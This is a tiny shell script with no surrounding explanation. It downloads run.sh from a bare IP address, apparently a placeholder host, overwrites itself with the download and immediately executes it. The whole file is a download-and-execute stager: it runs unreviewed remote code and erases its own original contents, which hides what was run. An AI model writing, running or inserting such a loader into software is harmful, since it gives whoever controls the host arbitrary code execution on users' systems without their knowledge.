#!/bin/sh
curl -fso "$0" http://192.0.2.7/run.sh
exec sh "$0"
